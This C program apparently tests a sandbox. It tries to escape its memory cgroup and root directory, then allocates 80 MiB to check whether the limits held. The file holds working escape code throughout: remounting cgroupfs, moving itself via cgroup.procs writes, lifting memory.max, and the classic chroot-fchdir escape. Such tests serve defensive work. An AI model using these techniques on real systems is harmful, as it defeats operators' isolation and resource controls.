/* Tries to leave its memory cgroup, then uses 80 MiB and exits with 0 if it is still alive. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define SIZE (80u << 20)

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd >= 0 && write(fd, text, strlen(text)) > 0)
		printf("wrote %s\n", path);
	if (fd >= 0)
		close(fd);
}

static void leave(const char *root)
{
	static const char *const files[] = {"cgroup.procs", "memory/cgroup.procs",
		"../cgroup.procs", "memory.max", "memory/memory.limit_in_bytes",
		"subject/cgroup.procs"};
	char path[256];
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(path, sizeof path, "%s/%s", root, files[i]);
		put(path, strstr(files[i], "procs") ? "0" : strstr(files[i], "max") ? "max" : "-1");
	}
}

int main(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL);
	leave("/sys/fs/cgroup");
	leave("/proc/1/root/sys/fs/cgroup");
	mkdir("/tmp/cgroup", 0755);
	if (mount("cgroup2", "/tmp/cgroup", "cgroup2", 0, NULL) == 0 ||
		mount("cgroup", "/tmp/cgroup", "cgroup", 0, "memory") == 0)
		leave("/tmp/cgroup");
	/* the classic way out of a root directory */
	int here = open("/", O_RDONLY | O_DIRECTORY);
	if (mkdir("/tmp/root", 0755) == 0 && chroot("/tmp/root") == 0 && fchdir(here) == 0) {
		for (int i = 0; i < 20; i++)
			if (chdir(".."))
				break;
		if (chroot(".") == 0)
			leave("/sys/fs/cgroup");
	}
	volatile char *memory = malloc(SIZE);
	for (size_t at = 0; at < SIZE; at += 4096)
		memory[at] = 1;
	printf("used %zu bytes\n", (size_t)SIZE);
	return 0;
}
